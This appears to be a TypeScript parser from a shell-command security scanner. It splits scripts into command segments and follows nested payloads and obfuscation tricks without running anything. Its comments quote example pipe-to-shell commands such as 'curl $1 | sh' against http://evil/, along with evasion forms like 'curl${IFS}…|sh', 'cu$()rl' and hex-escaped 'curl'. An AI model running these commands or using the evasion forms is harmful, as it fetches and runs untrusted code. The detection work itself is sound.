/**
 * Reads one script (a `sh -c` payload, a here-string, a decoded stage) into segments: a recursive-
 * descent reader of lists, pipelines, groups and substitutions, following payloads of the commands it
 * finds. Never executes or expands anything but the script's own plain variables; never throws.
 */
import { commandStart, commandWords, isShell, recycle, shellPayload } from "./commands.js";
import { stdinScript } from "./flow.js";
import { afterCd } from "./paths.js";
import {
  type CommandNames,
  type CommandSegment,
  exhaust,
  MAX_PAYLOAD_DEPTH,
  MAX_SCRIPT_CHARS,
  MAX_SUBSTITUTION_DEPTH,
  MAX_WORDS,
  type SegmentBudget,
  type SubstitutionKind,
} from "./segment.js";
import { braceExpansion, VARIABLE_NAME } from "./words.js";

type Budget = SegmentBudget;

/** Words that open a compound command, with the word that closes it. */
const GROUP_OPENERS: ReadonlyMap<string, string> = new Map([
  ["{", "}"],
  ["if", "fi"],
  ["while", "done"],
  ["until", "done"],
  ["for", "done"],
  ["select", "done"],
  ["case", "esac"],
]);
const GROUP_CLOSERS = new Set(GROUP_OPENERS.values());

/** Reads the payload `segment`'s words give a shell (`sh -c`, `su -c`, `eval`), if any, into `out`. */
export function expandPayload(
  segment: CommandSegment,
  out: CommandSegment[],
  budget: Budget,
  keep: CommandNames | undefined,
  variables?: ReadonlyMap<string, string>,
): void {
  const words = commandWords(segment.argv);
  const payload = shellPayload(words);
  if (payload === undefined || payload.length === 0) return;
  if (segment.depth >= MAX_PAYLOAD_DEPTH) {
    exhaust(budget, "depth");
    return;
  }
  const parser = new ScriptParser(payload, segment.depth + 1, segment.cwd, budget, out, keep);
  parser.payloadOf = segment;
  if (variables !== undefined) for (const [name, value] of variables) parser.variables.set(name, value);
  // `sh -c 'curl $1 | sh' x http://evil/`: the words after a shell's payload are $0, $1, …
  if (isShell(words[0] ?? "")) {
    const at = words.lastIndexOf(payload);
    parser.positional = at === -1 ? [] : words.slice(at + 1, at + 1 + MAX_POSITIONAL);
    if (parser.positional.length === 0) parser.positional = [words[0]!];
  }
  parser.parseAll();
}

/** Reads the script `segment` is fed as code (see {@link stdinScript}), if any, into `out`. */
function expandStdinScript(
  segment: CommandSegment,
  out: CommandSegment[],
  budget: Budget,
  keep: CommandNames | undefined,
) {
  const found = stdinScript(segment);
  if (found === undefined || found.script.trim().length === 0) return;
  // The decoded words run where the substitution stands: in the command that holds it.
  const runner =
    found.encoding !== undefined && segment.substitutionOf !== undefined
      ? segment.substitutionOf.segment
      : segment;
  if (segment.depth >= MAX_PAYLOAD_DEPTH) {
    exhaust(budget, "depth");
    return;
  }
  if (found.encoding !== undefined) runner.decodedStage = found.encoding;
  const parser = new ScriptParser(found.script, segment.depth + 1, segment.cwd, budget, out, keep);
  parser.payloadOf = runner;
  parser.parseAll();
}

/** Variables a script may set and later run: `a=curl; $a x | sh`. */
const MAX_VARIABLES = 256;
const MAX_VARIABLE_CHARS = 4096;
const DECLARATIONS = new Set(["export", "readonly", "declare", "typeset", "local"]);

/** Positional parameters kept for a payload ($0 … $99). */
const MAX_POSITIONAL = 100;

/** Records the plain assignments of a finished command (`a=curl`, `export b="-s x"`) in `variables`. */
function recordAssignments(segment: CommandSegment, variables: Map<string, string>, budget: Budget): void {
  const start = commandStart(segment.argv);
  const head = segment.argv[start];
  if (head !== undefined && !DECLARATIONS.has(head)) return;
  for (const word of segment.argv) {
    const name = VARIABLE_NAME.exec(word)?.[0];
    if (name === undefined || word[name.length] !== "=") continue;
    const value = word.slice(name.length + 1);
    if (value.length > MAX_VARIABLE_CHARS) {
      exhaust(budget, "variables");
      continue;
    }
    if (variables.size >= MAX_VARIABLES && !variables.has(name)) {
      exhaust(budget, "variables");
      continue;
    }
    variables.set(name, value);
  }
}

/** `$()`, `$( )`, ``` `` ```, `$(:)`, `$(true)`: command substitutions that print nothing. */
const EMPTY_SUBSTITUTION = /^(?:\$\(\s*(?:(?::|true|false)\s*)?\)|`\s*(?:(?::|true|false)\s*)?`)$/;

/** A recursive-descent reader of one script; segments go to `out` in reading order. */
class ScriptParser {
  private readonly text: string;
  private pos = 0;
  payloadOf: CommandSegment | undefined;
  /** Values assigned earlier in the script; `$name` and `${name}` read as them. */
  readonly variables = new Map<string, string>();
  /** `$0`, `$1`, … of a `sh -c` payload: the words after the payload; empty when none were given. */
  positional: string[] = [];
  /** The word being read took an unquoted variable's value: the shell splits it at blanks. */
  private splitWord = false;

  constructor(
    source: string,
    private readonly depth: number,
    private cwd: string | undefined,
    private readonly budget: Budget,
    private readonly out: CommandSegment[],
    private readonly keep: CommandNames | undefined,
  ) {
    const allowed = Math.max(0, Math.min(MAX_SCRIPT_CHARS, budget.chars));
    if (source.length > allowed) exhaust(budget, "characters");
    this.text = source.length > allowed ? source.slice(0, allowed) : source;
    budget.chars -= this.text.length;
  }

  parseAll(): void {
    this.parseList(null, undefined, 0);
  }

  /**
   * Reads commands until `terminator` (")" for `$(`/`<(`, "`" for backticks) or the end of the text.
   * `context` marks the segments as running inside a substitution of another command.
   */
  private parseList(
    terminator: ")" | "`" | null,
    context: CommandSegment["substitutionOf"],
    nesting: number,
  ): void {
    const text = this.text;
    let current: CommandSegment | undefined;
    let word = "";
    let wordStarted = false;
    // Nothing in the word was quoted, escaped or substituted: brace expansion applies.
    let plain = true;
    let pendingRedirect: string | undefined;
    let pipeFrom: CommandSegment | undefined;
    let parens = 0;
    // Compound commands — `( … )`, `{ …; }`, `if …; fi`, loops — send the output of every command in
    // them wherever the group's output goes: `(curl x) | sh` pipes curl into sh.
    const groups: { closer: string; start: number }[] = [];
    let closedGroup: CommandSegment[] | undefined;
    let pipeFromGroup: CommandSegment[] | undefined;
    const closeGroup = (closer: string, end: number): CommandSegment[] | undefined => {
      for (let i = groups.length - 1; i >= 0; i--) {
        if (groups[i]!.closer !== closer) continue;
        const start = groups[i]!.start;
        groups.length = i;
        return this.out
          .slice(start, end)
          .filter(
            (s) => s.depth === this.depth && s.substitutionOf === context && s.payloadOf === this.payloadOf,
          );
      }
      return undefined;
    };

    const ensureSegment = (): CommandSegment | undefined => {
      if (current !== undefined) return current;
      closedGroup = undefined;
      if (this.budget.segments <= 0) {
        exhaust(this.budget, "segments");
        return undefined;
      }
      this.budget.segments--;
      current = { argv: [], redirects: [], depth: this.depth };
      if (this.cwd !== undefined) current.cwd = this.cwd;
      if (context !== undefined) current.substitutionOf = context;
      if (this.payloadOf !== undefined) current.payloadOf = this.payloadOf;
      if (pipeFrom !== undefined) {
        current.pipedFrom = pipeFrom;
        pipeFrom.pipesTo = current;
        pipeFrom = undefined;
      }
      if (pipeFromGroup !== undefined) {
        for (const member of pipeFromGroup) member.pipesTo ??= current;
        current.pipedFrom = pipeFromGroup[pipeFromGroup.length - 1];
        pipeFromGroup = undefined;
      }
      this.out.push(current);
      return current;
    };
    const endWord = () => {
      if (!wordStarted) return;
      const segment = ensureSegment();
      if (segment !== undefined) {
        if (pendingRedirect !== undefined) segment.redirects.push({ op: pendingRedirect, target: word });
        else if (segment.argv.length >= MAX_WORDS) exhaust(this.budget, "words");
        else {
          const closer = segment.argv.length === 0 ? GROUP_OPENERS.get(word) : undefined;
          if (closer !== undefined) groups.push({ closer, start: this.out.length - 1 });
          if (plain) segment.argv.push(...braceExpansion(word));
          else if (this.splitWord) segment.argv.push(...word.split(/[ \t\n]+/).filter((w) => w !== ""));
          else segment.argv.push(word);
        }
      }
      pendingRedirect = undefined;
      word = "";
      wordStarted = false;
      plain = true;
      this.splitWord = false;
    };
    const endCommand = (pipe: boolean) => {
      endWord();
      const finished = current;
      current = undefined;
      pendingRedirect = undefined;
      let group: CommandSegment[] | undefined;
      if (finished === undefined) group = closedGroup;
      else if (finished.argv.length === 1 && GROUP_CLOSERS.has(finished.argv[0]!)) {
        const at = this.out.lastIndexOf(finished);
        group = closeGroup(finished.argv[0]!, at);
        // The closing word runs nothing; the group's commands stand for it.
        if (group !== undefined && at === this.out.length - 1 && finished.redirects.length === 0) {
          this.out.pop();
          this.budget.segments++;
        }
      }
      closedGroup = undefined;
      if (finished !== undefined && group === undefined) {
        if (this.depth < MAX_PAYLOAD_DEPTH) {
          expandPayload(finished, this.out, this.budget, this.keep, this.variables);
          expandStdinScript(finished, this.out, this.budget, this.keep);
        } else if (shellPayload(commandWords(finished.argv)) !== undefined) exhaust(this.budget, "depth");
        recordAssignments(finished, this.variables, this.budget);
        this.cwd = afterCd(finished, this.cwd);
        if (!pipe && this.keep !== undefined) recycle(this.out, finished, this.budget, this.keep);
      }
      pipeFrom = pipe && group === undefined ? finished : undefined;
      pipeFromGroup = pipe && group !== undefined && group.length > 0 ? group : undefined;
    };
    // Parses a substitution starting at this.pos (just after its opening) and returns its source text.
    const substitution = (open: string, kind: SubstitutionKind, close: ")" | "`"): string => {
      const start = this.pos - open.length;
      const outer = ensureSegment();
      const argIndex = pendingRedirect !== undefined || outer === undefined ? -1 : outer.argv.length;
      const savedCwd = this.cwd;
      if (nesting < MAX_SUBSTITUTION_DEPTH && outer !== undefined) {
        this.parseList(close, { segment: outer, kind, argIndex }, nesting + 1);
      } else {
        exhaust(this.budget, nesting >= MAX_SUBSTITUTION_DEPTH ? "substitutions" : "segments");
        this.skipTo(close);
      }
      this.cwd = savedCwd;
      const written = text.slice(start, this.pos);
      // An empty command substitution (`cu$()rl`, ``w``get``) expands to nothing: the shell joins the halves.
      if (kind === "command" && EMPTY_SUBSTITUTION.test(written)) return "";
      return written;
    };

    while (this.pos < text.length) {
      const c = text[this.pos]!;
      const next = text[this.pos + 1];
      if (terminator === ")" && c === ")" && parens === 0) {
        this.pos++;
        endCommand(false);
        return;
      }
      if (terminator === "`" && c === "`") {
        this.pos++;
        endCommand(false);
        return;
      }
      switch (c) {
        case " ":
        case "\t":
        case "\r":
          endWord();
          this.pos++;
          break;
        case "\n":
          endCommand(false);
          this.pos++;
          break;
        case "#":
          if (wordStarted) {
            word += c;
            this.pos++;
          } else {
            const eol = text.indexOf("\n", this.pos);
            this.pos = eol === -1 ? text.length : eol;
          }
          break;
        case "\\":
          if (next === "\n") this.pos += 2;
          else {
            word += next ?? "\\";
            wordStarted = true;
            plain = false;
            this.pos += 2;
          }
          break;
        case "'": {
          const end = text.indexOf("'", this.pos + 1);
          const stop = end === -1 ? text.length : end;
          word += text.slice(this.pos + 1, stop);
          wordStarted = true;
          plain = false;
          this.pos = stop + 1;
          break;
        }
        case '"':
          this.pos++;
          word += this.doubleQuoted(substitution);
          wordStarted = true;
          plain = false;
          break;
        case "$":
          word += this.dollar(substitution, false);
          wordStarted = true;
          plain = false;
          break;
        case "`":
          this.pos++;
          word += substitution("`", "command", "`");
          wordStarted = true;
          plain = false;
          break;
        case "|":
          if (next === "|") {
            this.pos += 2;
            endCommand(false);
          } else {
            this.pos += next === "&" ? 2 : 1;
            endCommand(true);
          }
          break;
        case "&":
          if (next === "&") {
            this.pos += 2;
            endCommand(false);
          } else if (next === ">") {
            endWord();
            const append = text[this.pos + 2] === ">";
            pendingRedirect = append ? "&>>" : "&>";
            this.pos += append ? 3 : 2;
          } else {
            this.pos++;
            endCommand(false);
          }
          break;
        case ";":
          this.pos++;
          endCommand(false);
          break;
        case "(":
          endWord();
          parens++;
          this.pos++;
          // After `|` the group's first command reads the pipe: `curl x | (sh)`.
          if (current !== undefined) endCommand(false);
          groups.push({ closer: ")", start: this.out.length });
          break;
        case ")":
          this.pos++;
          endCommand(false);
          if (parens > 0) {
            parens--;
            closedGroup = closeGroup(")", this.out.length);
          }
          break;
        case "<":
        case ">":
          if (next === "(" && !wordStarted) {
            this.pos += 2;
            word += substitution(`${c}(`, "process", ")");
            wordStarted = true;
            plain = false;
            break;
          }
          // A word made only of digits right before the operator is its file descriptor.
          if (wordStarted && /^\d+$/.test(word)) {
            word = "";
            wordStarted = false;
          } else endWord();
          pendingRedirect = this.redirectOperator();
          break;
        default:
          word += c;
          wordStarted = true;
          this.pos++;
      }
    }
    endCommand(false);
  }

  private redirectOperator(): string {
    const text = this.text;
    for (const op of ["<<<", "<<-", "<<", "<>", "<&", ">>", ">|", ">&", "<", ">"]) {
      if (text.startsWith(op, this.pos)) {
        this.pos += op.length;
        return op;
      }
    }
    this.pos++;
    return text[this.pos - 1]!;
  }

  /** Reads a double-quoted string from just after its opening quote; substitutions inside still run. */
  private doubleQuoted(substitution: (open: string, kind: SubstitutionKind, close: ")" | "`") => string) {
    const text = this.text;
    let value = "";
    while (this.pos < text.length) {
      const c = text[this.pos]!;
      if (c === '"') {
        this.pos++;
        return value;
      }
      if (c === "\\") {
        const next = text[this.pos + 1];
        if (next !== undefined && '\\"$`\n'.includes(next)) {
          if (next !== "\n") value += next;
          this.pos += 2;
        } else {
          value += c;
          this.pos++;
        }
      } else if (c === "$") {
        value += this.dollar(substitution, true);
      } else if (c === "`") {
        this.pos++;
        value += substitution("`", "command", "`");
      } else {
        value += c;
        this.pos++;
      }
    }
    return value;
  }

  /** Reads a `$…` construct at this.pos and returns the text it contributes to the word. */
  private dollar(
    substitution: (open: string, kind: SubstitutionKind, close: ")" | "`") => string,
    quoted: boolean,
  ): string {
    const text = this.text;
    const next = text[this.pos + 1];
    const special = this.specialParameter(quoted);
    if (special !== undefined) return special;
    // A variable the script set earlier reads as its value; an unknown one stays as written.
    const braced =
      next === "{" ? /^\{([A-Za-z_][A-Za-z0-9_]*)\}/.exec(text.slice(this.pos + 1, this.pos + 260)) : null;
    const name = braced?.[1] ?? VARIABLE_NAME.exec(text.slice(this.pos + 1, this.pos + 258))?.[0];
    const value = name === undefined ? undefined : this.variables.get(name);
    // Expansions draw on the character allowance, so `$a$a$a…` cannot grow a word without bound.
    if (value !== undefined && value.length <= this.budget.chars) {
      this.budget.chars -= value.length;
      this.pos += 1 + (braced !== null ? braced[0].length : name!.length);
      if (!quoted && /[ \t\n]/.test(value)) this.splitWord = true;
      return value;
    }
    if (next === "(" && text[this.pos + 2] === "(") {
      const start = this.pos;
      this.pos += 3;
      this.skipTo(")");
      if (text[this.pos] === ")") this.pos++;
      return text.slice(start, this.pos);
    }
    if (next === "(") {
      this.pos += 2;
      return substitution("$(", "command", ")");
    }
    if (next === "{") {
      const start = this.pos;
      this.pos += 2;
      let braces = 1;
      while (this.pos < text.length && braces > 0) {
        const c = text[this.pos]!;
        if (c === "{") braces++;
        else if (c === "}") braces--;
        else if (c === "\\") this.pos++;
        this.pos++;
      }
      return text.slice(start, this.pos);
    }
    if (next === "'") {
      this.pos += 2;
      return this.ansiC();
    }
    this.pos++;
    return "$";
  }

  /**
   * `$IFS`/`${IFS…}` (a field separator written where a space would be: `curl${IFS}http://x|sh`), and
   * the positional parameters `$@`, `$*`, `$0`…`$9`, `${10}`: the words after the payload, empty when
   * there are none (`cu$@rl` is curl). Undefined for anything else; this.pos moves past what it read.
   */
  private specialParameter(quoted: boolean): string | undefined {
    const ahead = this.text.slice(this.pos + 1, this.pos + 40);
    const ifs = this.variables.has("IFS")
      ? null
      : /^(?:IFS(?![A-Za-z0-9_])|\{IFS(?:[^{}]{0,32})\})/.exec(ahead);
    let value: string;
    let length: number;
    if (ifs !== null) {
      value = " ";
      length = ifs[0].length;
    } else {
      const match = /^(?:[@*]|[0-9]|\{(?:[@*]|[0-9]+)\})/.exec(ahead);
      if (match === null) return undefined;
      length = match[0].length;
      const which = match[0].replace(/[{}]/g, "");
      if (which === "@" || which === "*") value = this.positional.slice(1).join(" ");
      else value = this.positional[Number(which)] ?? "";
      if (value.length > this.budget.chars) {
        exhaust(this.budget, "characters");
        value = "";
      }
      this.budget.chars -= value.length;
    }
    this.pos += 1 + length;
    if (!quoted && /[ \t\n]/.test(value)) this.splitWord = true;
    return value;
  }

  /** `$'…'` with C escapes, so `$'\x63url'` reads as curl. */
  private ansiC(): string {
    const text = this.text;
    let value = "";
    while (this.pos < text.length) {
      const c = text[this.pos]!;
      if (c === "'") {
        this.pos++;
        return value;
      }
      if (c !== "\\") {
        value += c;
        this.pos++;
        continue;
      }
      const e = text[this.pos + 1] ?? "";
      this.pos += 2;
      const simple: Record<string, string> = {
        n: "\n",
        t: "\t",
        r: "\r",
        a: "\x07",
        b: "\b",
        e: "\x1b",
        E: "\x1b",
      };
      if (e in simple) value += simple[e];
      else if (e === "x" || e === "u" || e === "U") {
        const max = e === "x" ? 2 : e === "u" ? 4 : 8;
        const hex = /^[0-9a-fA-F]+/.exec(text.slice(this.pos, this.pos + max))?.[0] ?? "";
        this.pos += hex.length;
        const code = hex.length > 0 ? Number.parseInt(hex, 16) : Number.NaN;
        value += Number.isFinite(code) && code <= 0x10ffff ? String.fromCodePoint(code) : e;
      } else if (e >= "0" && e <= "7") {
        const oct = /^[0-7]{1,3}/.exec(text.slice(this.pos - 1, this.pos + 2))?.[0] ?? e;
        this.pos += oct.length - 1;
        value += String.fromCharCode(Number.parseInt(oct, 8) & 0xff);
      } else value += e;
    }
    return value;
  }

  /** Skips to just after the matching `close`, honouring quotes and nested parentheses. */
  private skipTo(close: ")" | "`"): void {
    const text = this.text;
    let parens = 0;
    while (this.pos < text.length) {
      const c = text[this.pos]!;
      if (c === "\\") this.pos += 2;
      else if (c === "'") {
        const end = text.indexOf("'", this.pos + 1);
        this.pos = end === -1 ? text.length : end + 1;
      } else if (close === ")" && c === "(") {
        parens++;
        this.pos++;
      } else if (c === close && (close === "`" || parens === 0)) {
        this.pos++;
        return;
      } else {
        if (c === ")") parens--;
        this.pos++;
      }
    }
  }
}
